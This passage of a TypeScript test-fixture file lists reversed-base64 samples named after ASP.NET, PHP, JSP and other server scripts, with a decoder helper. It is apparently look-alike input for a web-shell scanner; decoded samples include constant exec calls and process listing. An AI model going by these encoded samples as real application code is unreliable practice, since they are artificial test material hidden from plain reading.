    text: '=4DdwlmcjN3L80HI7kSXiQWaisFdzVWdxVmUgwiIklGQigSZ1xWYWhGdpdFZkFkLzJXZ0VWbhJXYQ5CZtNGI7kiIklGQg0DIklGIlJXZodHI0BSbvJnZgoCI0NWZsV2cigCZuFWbt92QsF3UuQnbllGbDxWcT5SY0FGRu0WZ0NXeTBydl5GI9ACZtNGIyFmdgsXKlBycnJXQ05WZ2VEIsMHI0NWZqJ2boQWYvx0XldWYQBCZp9md+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'encode.aspx',
    text: '+QHcpJ3Yz9CPiV3UgQmbFpQKpISZtFmbigSby9mRuQ3clVXclJFKlR2bj5WRs1GdI5iclZnclNFI9ACd4VGVuEDblJWYMBiCpM3ZyFEduVmdFBycBBSZgwCdjVmai9EIzFEIzhCZh9GTfV2ZhBFIiV3U+IiclZnclNnI9QXYuVncgQHcpJ3YzxjPlAiICZlI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'log.ashx',
    text: '9BSfgsTKzNXZyRGZBR3cvhkclNXVuQ3clVXclJlLjBCLpIyZvxmLzRXao9SY0FGRfBHcB9ifigCa0FGUwFWTuIXZ2JXZT5yYoQHelRFbsFEZuVGcwFkLlxWaG5yTJ5SblR3c5NFI7BSKjBCd4VGdu92QwRHdIhCdzVWdxVmUzNXZj9mcQBCZp9mdgMWasJWdwBSfg0HI7UWdyRHIuJXd0VmcgsHI0V2ZgsHIlxmYhNXdlJ1cJBCbv9mYgMWasJWdwByegIXZsRmbhhEc0RHSJBiOgwEIzNXYsNGIjlGbiVHcKsjYldlLtVGdzl3UgcmbpNXdK4TJgICTi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'image.ashx',
    text: '==Qfg0HI7kiIn5GcuICIrACZpByKgIyLzVmc1R3YpBnIoUGbpZUZ0lmcX5SZz52bwNXZS5yYgsjbyVHdlJHIpkCZpBCd19GIs0lIklmIbR3clVXclJlLjhSZzJXYQlncU5CdulWIoAiZpByOklGI05WagsHIpMGI0hXZ052bDBHd0hkLiV2Vu0WZ0NXeThCdzVWdxVmUzNXZj9mcQBCZp9mdgMWasJWdwBSfg0HI7U2csFmZg4mc1RXZyByegQXZnByegUGbiF2c1VmUzlEIs92biByYpxmY1BHI7BiclxGZuFGSwRHdIlkLiV2Vu0WZ0NXeTBiOgkEIzNXYsNGIjlGbiVHcK4TJgISSi0zczFGbDBiIjMkI9U2ZhV3ZuFGTgIXZsRmbhhkYldFIAVCP',
  },
  {
    name: 'dump-process.aspx',
    text: '+UCI9ByOpUWbh50czV2YvJHUuAHKlRXaydlLlNnbvB3clJFI7BSKpgyclN3clN2byBFdldkLzNXZj9mcQ5ycjlGdz9mbnFWaE5SblR3c5NFIulGIwBichZHKgg2YhVmcvZGIlwjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'databinder.ascx',
    text: '+UCIpICZJJCIs0WZ0lUY0FGRuIXZulWY052bDhCbhZXRuIXZk5WaCFGdhREIjUCP+UCIpISZsRXaUJCKsFmdFByIlwjPlAiIjMkI9U2ZhV3ZuFGTgw2byRnbvNEIAVCP',
  },
  {
    name: 'client-eval.aspx',
    text: '==gPw9CP+UCIlxGdpRFI9UCP+AHP+QHcpJ3Yz9CP7kSMgwSfgkCeowWY2VGI7lCKu9Wa0Nmb1ZGK0V3bl1WaURXZzByOpISKiAyKg42bzpGIrAiIoICKsFmdlBSPggHIyFmd+QHcpJ3YzxjPlAiIjMkI9U2ZhV3ZuFGTgU2ZhBFIAVCP',
  },
  {
    name: 'poll.asp',
    text: '=4TJKkSKiUWbh5mIoQ3clVXclJFKlR2bj5WRM1EVI5iclZnclNFImAiIgM3auFGaUJCIlRXaydlLlNnbvB3clJlCxAyKgkiIzVGdvZnIo42bpRXYjlGbwBXQg0DIpIyclR3b2JCKu9Wa0F2YpxGcwFkCpkiIlR3b2JCKtJ3bG5CdzVWdxVmUoQnbJNEI9AidKYHItlGRKUCP',
  },
  {
    name: 'conn.asp',
    text: '+UiCpICdg02byZGIpoCK05WdvNGI0NWZsV2cigSZ0V3YlhXRuMGI9AicgQXZTpgI41TZjJXdvNFIhRXYEtjQEVETPxUUT1jclRWa29mcQJCIuVGcP5yYKkiIu9Wa0NWZu52bD5iQE9ERBJCK0NWZqJ2TlRXYlJ3QuIXZ2JXZTBSPgMGI0V2UKUCP',
  },
  {
    name: 'template.php',
    text: '7g2YhVmcvZGZuVGIwhGc/wjPpx2L84zPgkSXiUWbh5mIb1WZ0lGJoMnchh2YsFWajVGczxWb0hGI98DP+kGb84zPgoTKtVGdpRCIzFGIz1WZ0lGJoACajFWZy9mZgAHaw9DP',
  },
  {
    name: 'form.php',
    text: '=0HI7kCbpFWbkACLiQ3YhRnbvNmIgwiIlxGctFGel5iblZXYoBUYigCbpFWbgsTKMlUQNV0XFRVQElETBZ1XSVEVMlkRgwSXiwWah1WZisFVT9EUfRCKyFmdfJXZ0xWamBSPgwWah1GJgsHIpkSXiwWah1WZisFVT9EUfRCK0V2czlGKgYWagAHaw9DP',
  },
  {
    name: 'callback.php',
    text: '=0HI9BSfgsTKnJXYkACLoRCKj5Wdm9lclNXdfxGbhNGI7BSKoRCIzFGIdVWbh5GJbNnclxGZuFGa+0ycphGdkgCIoNWYlJ3bmByegkyZyFGJgwSZtFmbkgSZylmZg42bpR3YuVnZg0HI7IXZsRmbhhGJg0DIdtVXl1WYuRyWzJXZsRmbhhmPtMXaoRHJgsHIpIXZsRmbhhGJgwSZtFmbkgibvBibvlGdj5WdmByOpgSehJnchBSPgMnclxGZuFGakASZ0FmdpJHcgsHIzVnQgM3chx2YgAHaw9DP',
  },
  { name: 'exec-const.php', text: '=sTK2RCKzJXYoNGbhl2YlB3cs1GdoByboNWZgsTKiQUQFhEIlNnchBXL2VmcgQXanJCKjVGelBSPgYHJgAHaw9DP' },
  {
    name: 'resize.php',
    text: '==wOpIyZuBnL0V3bgICIuAydkAiLgICIlpXazVmctAyZuBnLulGI0JXZ252bjJCKjVGelByOdJydisFVFd0XkASK05WaoASPgcHJgAHaw9DP',
  },
  {
    name: 'list.jsp',
    text: '=4DcvwjPlASKogGdn5WZs5Scg0TJ84Dc84TJgsjIiASPgEHIpwGb15GI90DIxhCImlGI7kiIxJCKyVGdl1WYyFGU0V2ZuQ3clVXclJHI9AScgcmbpJHdTBSJ84TJgIiKuwWa0VnLhZXYqJSP0J3bw1WagU2ZhBHIAVCP',
  },
  {
    name: 'taglib.jsp',
    text: '==QfldWYw5SbhJXYwtHJ+g2YhVkcvZmOj9CP9VWbh5mL4tHJ+ICei0jchZHIi0HdzlGb7RiI9MXblRXagg2YhVkcvZmOjxjPlAiIlJ3bj9Cb0NnavA3cq9SbvNmLuV3cuEmdhp2LvoDc0RHai0TayVHIiMmI9gXamVmcwBiYpx2ZhRHIAVCP',
  },
  {
    name: 'razor.cshtml',
    text: '=0HI+I2L8EHQ+IGPgsHIpwGb15GI9ECIxhCImlGQpwWZk9WTgwiI0NXaM9lIowWYpRnchBlLs1GdIBkPyg2L8UWbh5kLsVGZv1EQ+IDa8oQfgsTXiEnIbR3clVXclJFI9AScgIXY2ByOiA3boNlIg0DIlxGdpRlLnFmQ3VWaWByeApQblRXSuA3boNFIsVGZv1GQ',
  },
  {
    name: 'global.asax',
    text: '+QHcpJ3Yz9CP9ByOpkCKn5WayR3UvRlL4BCLiUGdpNnIoknc05WRlRXaydlLn9GT05WZ2VkLzNWa0N3budWYpRkLtVGdzl3UgsTKoI3byJXR0NXYMRXZH5iclZnclNFI9ACegIXY2ByegkSZgM3ZyFEduVmdFBCLzBCdjVmai9GKy9mcyV0Xu9Wa0F2YpxGcwFEIkl2b25jIyVmdyV2ci0Ddh5WdyBCdwlmcjNHPK4TJgIyIDJSPldWY1dmbhxEIu9Wa0F2YpxGcwFEIAVCP',
  },
  { name: 'wcf.svc', text: '=4TJgIycyVGZy9kLw9GaTJSPlNWa2JXZTBiIlNHbhZmI9cWdiVGRgIyIDJSPldWY1dmbhxEI0N3bIV2YpZnclNFIAVCP' },
];

export const bytesOf = ({ text }: { readonly text: string }): Uint8Array =>
  Uint8Array.from(atob(text.split('').toReversed().join('')), (letter) => letter.charCodeAt(0));
